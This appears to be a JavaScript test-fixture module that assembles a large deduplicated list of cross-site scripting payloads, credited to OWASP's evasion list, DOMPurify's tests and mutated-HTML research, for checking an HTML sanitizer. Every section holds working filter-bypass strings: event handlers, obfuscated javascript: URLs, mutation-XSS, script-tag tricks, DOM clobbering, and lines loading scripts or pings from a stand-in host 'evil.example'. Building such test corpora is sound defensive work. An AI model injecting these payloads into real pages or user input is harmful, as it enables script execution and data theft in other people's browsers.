/*
 * Texts in bad faith, as OWASP's list of filter evasions, the tests of DOMPurify and writings on mutated HTML collect them: each
 * of them alone is what somebody wrote into a field. Those that run say it with `alert`, those that ask elsewhere ask `elsewhere`.
 */
export const elsewhere = 'evil.example'
const run = 'alert(1)'

/** Events that come by themselves, or that whoever wrote the text makes come. */
const events = [
  ...['onload', 'onerror', 'onfocus autofocus tabindex=1', 'onbegin', 'onend', 'onstart', 'onloadstart', 'onpageshow'],
  ...['onanimationstart style="animation:rotation 1s"', 'onpointerover', 'onmouseover', 'ontoggle open', 'oncanplay'],
  ...[
    'oncontentvisibilityautostatechange style="display:block;content-visibility:auto"',
    'onbeforetoggle',
    'onfocusin',
  ],
]
const carriers = [
  ...['img src=x', 'svg', 'body', 'video src=x', 'audio src=x', 'details', 'marquee', 'input', 'iframe src=x', 'p'],
]
const onEvents = carriers.flatMap((tag) =>
  events.map((event) => {
    const [name, ...more] = event.split(' ')
    return `<${tag} ${more.join(' ')} ${name}=${run}>`
  }),
)

/** Ways to write an address that is a script, or somebody else's. */
const addresses = [
  ...[`javascript:${run}`, `JaVaScRiPt:${run}`, ` javascript:${run}`, `java\tscript:${run}`, `java\nscript:${run}`],
  ...[`java&#9;script:${run}`, `java&#x0A;script:${run}`, `&#106;avascript:${run}`, `&#x6A&#x61vascript:${run}`],
  ...[`javascript&colon;${run}`, `javascript&#58;${run}`, `\u0001javascript:${run}`, `vbscript:msgbox(1)`],
  ...[`data:text/html,<script>${run}</script>`, `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`],
  ...[`data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${run}'/>`, `//${elsewhere}/a`],
  ...[`https:${elsewhere}/b`, `\\\\${elsewhere}/c`, `/\\${elsewhere}/d`, `jar:https://${elsewhere}!/e`],
]
const holders = [
  'iframe src',
  'embed src',
  'object data',
  'form action',
  'math href',
  'img src',
  'link rel=stylesheet href',
]
const byAddress = [
  ...addresses.flatMap((address) => [
    `<a href="${address}">a</a>`,
    `<svg><a xlink:href="${address}"><text>a</text></a></svg>`,
  ]),
  ...holders.flatMap((holder) => addresses.slice(0, 3).map((address) => `<${holder}="${address}"><button>a</button>`)),
  ...holders.map((holder) => `<${holder}="//${elsewhere}/${holder.replaceAll(' ', '-')}">`),
]

/** What a browser reads otherwise than a filter: comments, namespaces, texts that are not closed, and what changes when it is read again. */
const mutated = [
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`,
  `<svg><style><img src=x onerror=${run}></style></svg>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<textarea><img title="</textarea><img src=x onerror=${run}>"></textarea>`,
  `<title><img title="</title><img src=x onerror=${run}>"></title>`,
  `<xmp><img title="</xmp><img src=x onerror=${run}>"></xmp>`,
  `<noembed><img title="</noembed><img src=x onerror=${run}>"></noembed>`,
  `<iframe><img title="</iframe><img src=x onerror=${run}>"></iframe>`,
  `<noframes><img title="</noframes><img src=x onerror=${run}>"></noframes>`,
  `<template><img src=x onerror=${run}></template><img src=x onerror=${run}>`,
  `<select><style></select><img src=x onerror=${run}></style></select>`,
  `<table><td><select><template><td><style></template><img src=x onerror=${run}>`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror=${run}></annotation-xml></math>`,
  `<math><mi//xlink:href="data:x,<script>${run}</script>">`,
  `<svg><desc><img src=x onerror=${run}></desc></svg>`,
  `<svg><foreignObject><img src=x onerror=${run}></foreignObject></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<svg><set attributeName=href to="javascript:${run}"><a><text>a</text></a></svg>`,
  `<svg><a><animate attributeName=href values="javascript:${run}" /><text>a</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${run}' /></svg>#x" />`,
  `<svg><script>${run}</script></svg>`,
  `<svg><script>&#97;lert(1)</script></svg>`,
  `<svg><script xlink:href="data:,${run}" /></svg>`,
  `<svg><image href="//${elsewhere}/i.png" /></svg>`,
  `<svg><feImage href="//${elsewhere}/f.png" /></svg>`,
  `<!--><img src=x onerror=${run}>-->`,
  `<!--!><img src=x onerror=${run}>-->`,
  `<!-- --!><img src=x onerror=${run}> -->`,
  `<![CDATA[<img src=x onerror=${run}>]]>`,
  `<svg><![CDATA[><img src=x onerror=${run}>]]></svg>`,
  `<?xml version="1.0"?><img src=x onerror=${run}>`,
  `<%<!--'%><script>${run}</script>-->`,
  `</p><img src=x onerror=${run}><p>`,
  `<p title='"><img src=x onerror=${run}>'>a</p>`,
  `<p lang='"><img src=x onerror=${run}>'>a</p>`,
  `<img alt='"><img src=x onerror=${run}>' src="/files/aaaaaaaaaaaaaaaaaaaaaaaa/1.jpg">`,
  `<a href='/posts"><img src=x onerror=${run}>'>a</a>`,
  `<td colspan='"><img src=x onerror=${run}>'>a</td>`,
  `<p>${'<b>'.repeat(600)}<img src=x onerror=${run}>`,
  `${'<div>'.repeat(520)}<table><caption><img src=x onerror=${run}></caption></table>`,
]

/** Scripts, and tags that a filter does not take for what they are. */
const scripts = [
  `<script>${run}</script>`,
  `<SCRIPT>${run}</SCRIPT>`,
  `<script\n>${run}</script\n>`,
  `<script/x>${run}</script>`,
  `<script type=module>${run}</script>`,
  `<script>${run}//`,
  `<<script>${run}//<</script>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<script src=//${elsewhere}/a.js></script>`,
  `<script src="data:,${run}"></script>`,
  `</script><script>${run}</script>`,
  `</title><script>${run}</script>`,
  `</style><script>${run}</script>`,
  `</textarea><script>${run}</script>`,
  `]]><script>${run}</script>`,
  `--><script>${run}</script>`,
  `"><script>${run}</script>`,
  `'><script>${run}</script>`,
  `'-${run}-'`,
  `";${run};//`,
  `\${${run}}`,
  '{{constructor.constructor("alert(1)")()}}',
  `<script>window.__reactRouterContext = ${run}</script>`,
  `\u2028${run}\u2029</script><script>${run}</script>`,
  `<img/src=x/onerror=${run}>`,
  `<img src=x onerror=${run}//`,
  `<img\u000csrc=x\u000conerror=${run}>`,
  `<img src=x onerror\n=\n${run}>`,
  `<img src=x onerror="&#97;lert(1)">`,
  `<img """><script>${run}</script>">`,
  `<img src="x\` onerror=${run}">`,
  `<IMG SRC=x ONERROR=${run}>`,
  `&lt;img src=x onerror=${run}&gt;`,
  `&amp;lt;script&amp;gt;${run}&amp;lt;/script&amp;gt;`,
  `%3Cscript%3E${run}%3C/script%3E`,
  `\uff1cscript\uff1e${run}\uff1c/script\uff1e`,
  `<x onclick=${run} autofocus tabindex=1 onfocus=${run}>`,
  `<keygen autofocus onfocus=${run}>`,
  `<isindex action=javascript:${run} type=image>`,
]

/** What changes the page around it, or tells somebody else that it was read. */
const around = [
  `<base href="//${elsewhere}/">`,
  `<meta http-equiv=refresh content="0;url=//${elsewhere}/r">`,
  `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
  `<meta http-equiv=content-security-policy content="script-src 'unsafe-inline'">`,
  `<link rel=prefetch href="//${elsewhere}/p">`,
  `<link rel=dns-prefetch href="//${elsewhere}">`,
  `<link rel=import href="//${elsewhere}/i">`,
  `<style>@import "//${elsewhere}/s.css";</style>`,
  `<style>body{background:url(//${elsewhere}/b.png)}</style>`,
  `<p style="background:url(//${elsewhere}/b.png)">a</p>`,
  `<p style="width:expression(${run})">a</p>`,
  `<p style="behavior:url(//${elsewhere}/x.htc)">a</p>`,
  `<p style="position:fixed;inset:0;z-index:9999">a</p>`,
  `<table background="//${elsewhere}/t.png"><td>a</td></table>`,
  `<body background="//${elsewhere}/y.png">`,
  `<img srcset="//${elsewhere}/1.png 1x">`,
  `<img src="//${elsewhere}/2.png">`,
  `<img src="https://${elsewhere}/3.png">`,
  `<img lowsrc="//${elsewhere}/4.png" dynsrc="//${elsewhere}/5.png">`,
  `<picture><source srcset="//${elsewhere}/6.png"><img></picture>`,
  `<video poster="//${elsewhere}/7.png"></video>`,
  `<video><source src="//${elsewhere}/8.mp4" onerror=${run}></video>`,
  `<audio><track src="//${elsewhere}/9.vtt"></audio>`,
  `<input type=image src="//${elsewhere}/10.png" formaction=javascript:${run}>`,
  `<frameset onload=${run}><frame src="//${elsewhere}/11"></frameset>`,
  `<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>`,
  `<iframe srcdoc="&lt;img src=x onerror=parent.alert(1)&gt;"></iframe>`,
  `<object><param name=movie value="//${elsewhere}/12.swf"></object>`,
  `<applet code="//${elsewhere}/13.class"></applet>`,
  `<portal src="//${elsewhere}/14"></portal>`,
  `<a ping="//${elsewhere}/15" href="#">a</a>`,
  `<blockquote cite="javascript:${run}">a</blockquote>`,
  `<form id=attributes><input name=attributes><input name=parentNode></form>`,
  `<img name=getElementById><form name=body><input id=cookie>`,
  `<a id=__reactRouterContext></a><a id=__reactRouterContext name=state href="x:1"></a>`,
  `<p id=main class="skip" slot=x is=x-y part=z>a</p>`,
  `<dialog open><form method=dialog action="//${elsewhere}/16"><button>a</button></form></dialog>`,
  `<button popovertarget=x onclick=${run}>a</button><p popover id=x onbeforetoggle=${run}>b</p>`,
]

/** Each once. */
export const payloads = [...new Set([...scripts, ...mutated, ...around, ...byAddress, ...onEvents])]
